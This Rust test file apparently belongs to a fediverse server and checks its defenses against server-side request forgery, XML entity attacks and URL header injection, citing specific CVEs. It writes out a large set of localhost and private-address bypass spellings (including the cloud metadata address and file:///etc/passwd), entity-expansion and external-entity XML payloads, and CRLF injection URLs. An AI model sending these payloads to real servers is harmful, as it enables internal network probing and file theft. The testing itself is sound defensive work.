//! Where we may be sent: every kind of request that a stranger can cause, at every kind of address that is not for us.

use std::sync::Arc;

use serde_json::json;
use tokio::{net::TcpListener, sync::Mutex};

use super::{Scene, create};
use crate::support::{
    client::encode,
    peer::{ACTIVITY_JSON, Reply},
    run,
};

/// Listens on loopback and counts who connects: nobody may.
struct Trap {
    port: u16,
    visits: Arc<Mutex<usize>>,
}

impl Trap {
    async fn set() -> Trap {
        let listener = TcpListener::bind("0.0.0.0:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        let visits = Arc::new(Mutex::new(0));
        let counting = visits.clone();
        tokio::spawn(async move {
            while let Ok((_socket, _)) = listener.accept().await {
                *counting.lock().await += 1;
            }
        });
        Trap { port, visits }
    }

    /// Every spelling of this machine with the trap's port, and private places of others.
    fn places(&self) -> Vec<String> {
        let port = self.port;
        let mut places = Vec::new();
        for host in [
            "127.0.0.1",
            "127.1",
            "2130706433",
            "0x7f000001",
            "0177.0.0.1",
            "0",
            "0.0.0.0",
            "localhost",
            "localhost.",
            "foo.localhost",
            "[::1]",
            "[::]",
            "[::ffff:127.0.0.1]",
            "[::ffff:7f00:1]",
            "[::127.0.0.1]",
            "[64:ff9b::7f00:1]",
            "[2002:7f00:1::]",
        ] {
            for scheme in ["http", "https"] {
                places.push(format!("{scheme}://{host}:{port}/users/x"));
            }
            places.push(format!("https://{host}/users/x"));
        }
        for host in [
            "10.0.0.1",
            "169.254.169.254",
            "192.168.0.1",
            "100.64.0.1",
            "172.16.0.1",
            "[fe80::1]",
            "[fc00::1]",
            "metadata.internal",
            "x.onion",
            "x.i2p",
            "router.lan",
        ] {
            places.push(format!("https://{host}/users/x"));
        }
        places.push(format!("http://good.test@127.0.0.1:{port}/"));
        places.push("file:///etc/passwd".to_owned());
        places.push("gopher://127.0.0.1/x".to_owned());
        places
    }

    async fn assert_unvisited(&self, what: &str) {
        assert_eq!(*self.visits.lock().await, 0, "{what}: somebody connected");
    }
}

#[test]
fn nothing_a_stranger_names_leads_to_this_machine_or_a_private_one_cve_2026_22245_cve_2024_39687() {
    run(async {
        let trap = Trap::set().await;
        let scene = Scene::new(&["evil.test"]).await;
        let mallory = scene.peer.actor("evil.test", "mallory");
        scene.alice_follows(&mallory).await;
        for place in trap.places() {
            // Pasted into the search.
            let found = scene
                .alice
                .get(&format!("/api/v2/search?resolve=true&q={}", encode(&place)))
                .await;
            assert!(
                found.status < 500 || found.status == 503,
                "{place}: {}",
                found.status
            );
            // As a boosted object, a parent, an object to be looked up.
            mallory
                .send(&scene.app, &mallory.activity("Announce", place.clone()))
                .await;
            let mut reply = mallory.note("<p>x</p>");
            reply["inReplyTo"] = json!(place);
            reply["attachment"] =
                json!([{ "type": "Image", "mediaType": "image/png", "url": place }]);
            reply["tag"] = json!([
                { "type": "Mention", "href": place, "name": "@x@127.0.0.1" },
                { "type": "Emoji", "name": ":x:", "id": place, "icon": { "type": "Image", "url": place } },
            ]);
            reply["replies"] = json!(place);
            mallory.send(&scene.app, &create(&mallory, &reply)).await;
            mallory
                .send(&scene.app, &mallory.activity("Create", place.clone()))
                .await;
            mallory
                .send(&scene.app, &mallory.activity("Update", place.clone()))
                .await;
        }
        scene.app.settled().await;
        trap.assert_unvisited("objects").await;
    });
}

#[test]
fn keys_inboxes_and_collections_of_private_places_are_not_asked() {
    run(async {
        let trap = Trap::set().await;
        let scene = Scene::new(&["evil.test"]).await;
        for (n, place) in trap.places().into_iter().enumerate() {
            let mut mallory = scene.peer.stranger("evil.test", &format!("mallory{n}"));
            // A key elsewhere.
            let note = mallory.note_to("<p>x</p>", &scene.alice_id(), "alice@alpha.test");
            mallory.key_id.clone_from(&place);
            if !place.contains(['"', '\\']) {
                let body = create(&mallory, &note);
                let answer = mallory.send(&scene.app, &body).await;
                assert!(
                    (400..500).contains(&answer.status) || answer.status == 503,
                    "{place}: {}",
                    answer.status
                );
            }
            // Everything else of an actor elsewhere.
            let mut document = scene
                .peer
                .actor("evil.test", &format!("carol{n}"))
                .document();
            for link in ["inbox", "outbox", "followers", "following", "featured"] {
                document[link] = json!(place);
            }
            document["endpoints"]["sharedInbox"] = json!(place);
            document["icon"] = json!({ "type": "Image", "url": place });
            document["image"] = json!({ "type": "Image", "url": place });
            document["movedTo"] = json!(place);
            document["alsoKnownAs"] = json!([place]);
            scene.peer.publish(&document);
            let found = scene
                .alice
                .get(&format!(
                    "/api/v2/search?resolve=true&type=accounts&q=@carol{n}@evil.test"
                ))
                .await;
            if let Some(id) = (found.status == 200)
                .then(|| {
                    found.json()["accounts"][0]["id"]
                        .as_str()
                        .map(str::to_owned)
                })
                .flatten()
            {
                scene
                    .alice
                    .post(&format!("/api/v1/accounts/{id}/follow"), ())
                    .await;
            }
        }
        scene.app.settled().await;
        trap.assert_unvisited("actors").await;
    });
}

#[test]
fn redirects_into_this_machine_are_not_followed_and_carry_no_signature_cve_2026_77632() {
    run(async {
        let trap = Trap::set().await;
        let scene = Scene::new(&["evil.test", "other.test"]).await;
        let mallory = scene.peer.actor("evil.test", "mallory");
        scene.alice_follows(&mallory).await;
        for (n, place) in trap.places().into_iter().enumerate() {
            let url = format!("https://evil.test/hop/{n}");
            scene.peer.serve(&url, Reply::Redirect(place.clone()));
            scene
                .alice
                .get(&format!("/api/v2/search?resolve=true&q={}", encode(&url)))
                .await;
            mallory
                .send(&scene.app, &mallory.activity("Announce", url))
                .await;
            let webfinger =
                format!("https://evil.test/.well-known/webfinger?resource=acct:hop{n}@evil.test");
            scene.peer.serve(&webfinger, Reply::Redirect(place));
            scene
                .alice
                .get(&format!("/api/v2/search?resolve=true&q=@hop{n}@evil.test"))
                .await;
        }
        scene.app.settled().await;
        trap.assert_unvisited("redirects").await;
        // To another public host the signature, which was made for the first, does not travel.
        scene.peer.serve(
            "https://evil.test/away",
            Reply::Redirect("https://other.test/there".to_owned()),
        );
        scene
            .alice
            .get(&format!(
                "/api/v2/search?resolve=true&q={}",
                encode("https://evil.test/away")
            ))
            .await;
        for asked in scene
            .peer
            .asked()
            .iter()
            .filter(|asked| asked.host == "other.test")
        {
            let Some(signature) = asked.header("signature") else {
                continue;
            };
            let first = scene
                .peer
                .asked()
                .into_iter()
                .find(|asked| asked.url() == "https://evil.test/away")
                .unwrap();
            assert_ne!(first.header("signature"), Some(signature));
        }
    });
}

#[test]
fn nodeinfo_and_host_meta_that_point_inward_are_refused_cve_2026_62857() {
    run(async {
        let trap = Trap::set().await;
        let scene = Scene::new(&["evil.test"]).await;
        for (n, place) in trap
            .places()
            .into_iter()
            .chain(["data:application/json,{}".to_owned()])
            .enumerate()
        {
            scene.peer.serve(
                "https://evil.test/.well-known/nodeinfo",
                Reply::typed("application/json", &json!({ "links": [{ "rel": "http://nodeinfo.diaspora.software/ns/schema/2.0", "href": place }] })),
            );
            let xrd = format!(
                "<?xml version=\"1.0\"?><XRD xmlns=\"http://docs.oasis-open.org/ns/xri/xrd-1.0\"><Link rel=\"lrdd\" template=\"{}?{{uri}}\"/></XRD>",
                place.replace('&', "&amp;")
            );
            scene.peer.serve(
                "https://evil.test/.well-known/host-meta",
                Reply::Body(200, "application/xrd+xml".into(), xrd.into()),
            );
            scene
                .alice
                .get(&format!("/api/v2/search?resolve=true&q=@meta{n}@evil.test"))
                .await;
            // And a self link of webfinger.
            scene.peer.serve(
                &format!("https://evil.test/.well-known/webfinger?resource=acct:finger{n}@evil.test"),
                Reply::typed("application/jrd+json", &json!({ "subject": format!("acct:finger{n}@evil.test"), "links": [{ "rel": "self", "type": ACTIVITY_JSON, "href": place }] })),
            );
            scene
                .alice
                .get(&format!(
                    "/api/v2/search?resolve=true&q=@finger{n}@evil.test"
                ))
                .await;
        }
        scene.app.settled().await;
        trap.assert_unvisited("discovery").await;
    });
}

#[test]
fn host_meta_entities_are_never_resolved_pleroma_2_6_0_pleroma_2_5_4() {
    run(async {
        let trap = Trap::set().await;
        let scene = Scene::new(&["evil.test"]).await;
        let mut bomb =
            String::from("<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY a0 \"aaaaaaaaaa\">");
        for n in 1..12 {
            bomb.push_str(&format!(
                "<!ENTITY a{n} \"{}\">",
                format!("&a{};", n - 1).repeat(10)
            ));
        }
        bomb.push_str(
            "]><XRD><Link rel=\"lrdd\" template=\"https://evil.test/x?&a11;{uri}\"/></XRD>",
        );
        let external = format!(
            "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY f SYSTEM \"file:///etc/passwd\"><!ENTITY % p SYSTEM \"http://127.0.0.1:{}/dtd\"> %p;]>\
             <XRD><Link rel=\"lrdd\" template=\"https://evil.test/leak?&f;{{uri}}\"/></XRD>",
            trap.port
        );
        for xml in [bomb, external] {
            scene.peer.serve(
                "https://evil.test/.well-known/host-meta",
                Reply::Body(200, "application/xrd+xml".into(), xml.into()),
            );
            let started = std::time::Instant::now();
            scene
                .alice
                .get("/api/v2/search?resolve=true&q=@xml@evil.test")
                .await;
            assert!(started.elapsed().as_secs() < 10);
        }
        trap.assert_unvisited("entities").await;
        // Both were read.
        assert_eq!(
            scene.peer.times("https://evil.test/.well-known/host-meta"),
            2
        );
        assert!(
            scene
                .peer
                .asked()
                .iter()
                .all(|asked| !asked.path.contains("root:") && !asked.path.contains("aaaaaaaaaaaa"))
        );
    });
}

#[test]
fn a_private_link_in_a_post_of_ours_is_never_looked_at_pleroma_1_0_0() {
    run(async {
        let trap = Trap::set().await;
        let scene = Scene::new(&[]).await;
        for place in trap.places() {
            let status = scene
                .alice
                .post(
                    "/api/v1/statuses",
                    json!({ "status": format!("look {place}") }),
                )
                .await;
            assert!(status.status < 500);
            scene
                .alice
                .post(
                    "/api/v1/statuses",
                    json!({ "status": format!("@x@127.0.0.1:{} hi", trap.port) }),
                )
                .await;
        }
        scene.app.settled().await;
        trap.assert_unvisited("links").await;
    });
}

#[test]
fn odd_characters_in_urls_never_reach_the_wire_cve_2023_42450() {
    run(async {
        let scene = Scene::new(&["evil.test"]).await;
        let mallory = scene.peer.actor("evil.test", "mallory");
        scene.alice_follows(&mallory).await;
        let before = scene.peer.asked().len();
        for url in [
            "https://evil.test/\r\nx-injected: 1",
            "https://evil.test/a\nb",
            "https://evil.test\r\n.evil.test/",
            "https://evil.test/\u{0}",
            "https://evil.test\\@good.test/",
            "https://evil.test:443\t/",
            " https://evil.test/x",
        ] {
            mallory
                .send(&scene.app, &mallory.activity("Announce", url))
                .await;
            scene
                .alice
                .get(&format!("/api/v2/search?resolve=true&q={}", encode(url)))
                .await;
        }
        scene.app.settled().await;
        for asked in &scene.peer.asked()[before..] {
            assert!(asked.header("x-injected").is_none());
            assert!(
                !asked.path.contains(['\r', '\n', '\t', '\\', ' ']),
                "{}",
                asked.path
            );
        }
    });
}
